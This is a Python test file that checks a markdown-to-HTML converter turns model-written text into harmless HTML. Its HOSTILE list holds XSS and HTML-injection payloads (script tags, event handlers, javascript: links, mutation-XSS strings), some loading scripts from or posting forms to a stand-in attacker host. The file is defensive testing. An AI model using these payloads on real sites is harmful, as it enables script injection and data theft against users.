"""Whatever a model writes becomes HTML that can do nothing."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings, strategies as st

from pomona.arena.annotating.markdown import to_html

TAGS = {"a", "blockquote", "br", "code", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre"}
TAGS |= {"s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"}
MARKS = "<>[]()`*_!|\"'\n -#:&;a/"
HOSTILE = [
    "<script>alert(1)</script>",
    "</script><script src=//evil.example></script>",
    "<img src=x onerror=alert(1)>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&#58;alert(1))",
    "<javascript:alert(1)>",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "![a](https://evil.example/pixel.png)",
    "[a]: vbscript:x\n\n[a]",
    '[a](https://e.example "x\\" onmouseover=alert(1) y=\\"")',
    "[a](/logout)",
    "[a](//evil.example)",
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0">',
    "<form action=https://evil.example><input name=csrf></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<svg><a xlink:href=javascript:alert(1)><animate onbegin=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "`<b>`",
    "```html\n<script>\n```",
    "|a|\n|-|\n|<b onclick=x>|",
    "<base href=https://evil.example>",
    "<!--><script>alert(1)</script>-->",
    "\x00<scr\x00ipt>",
    "\u202ereversed",
    "&lt;script&gt;",
    "# <h1 id=start>",
]


class Found(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.shown = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.shown += data


def parse(text: str) -> Found:
    found = Found()
    found.feed(str(to_html(text)))  # markup escapes what it is joined with
    found.close()
    return found


def assert_harmless(text: str) -> None:
    for tag, attributes in parse(text).seen:
        assert tag in TAGS
        href = attributes.pop("href", None)
        assert href is None or href.startswith(("https://", "http://"))
        assert set(attributes) <= (
            {"rel", "target"} if tag == "a" else {"start"} if tag == "ol" else set()
        )


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_text(text: str) -> None:
    assert_harmless(text)


@settings(max_examples=40, deadline=None)
@given(st.lists(st.sampled_from(HOSTILE) | st.text(MARKS, max_size=6), max_size=8))
def test_no_mixture_of_hostile_text_is_more_than_text(parts: list[str]) -> None:
    assert_harmless("".join(parts))


def test_markdown_is_shown_as_its_writer_meant_it() -> None:
    html = to_html("# Title\n\n*a* **b** ~~c~~ `d`\ne\n\n3. f\n\n| g | h |\n|--:|---|\n| 1 | 2 |")
    assert html.startswith(
        "<h3>Title</h3>\n<p><em>a</em> <strong>b</strong> <s>c</s> <code>d</code><br>"
    )
    assert '<ol start="3">\n<li>f</li>\n</ol>' in html
    assert "<td>1</td>\n<td>2</td>" in html


def test_what_looks_like_html_can_be_read() -> None:
    assert parse("a <b>c</b> <script>d</script>").shown == "a <b>c</b> <script>d</script>\n"


def test_a_link_tells_nobody_where_it_was_clicked() -> None:
    found = parse("[b](https://e.example/?q=1)")
    assert found.seen[1] == (
        "a",
        {
            "href": "https://e.example/?q=1",
            "target": "_blank",
            "rel": "noopener noreferrer nofollow",
        },
    )


def test_a_very_long_text_is_shown_as_it_is() -> None:
    html = to_html("<b>" + "[" * 100_000)
    assert html.startswith("<pre>&lt;b&gt;[[") and html.endswith("[</pre>")
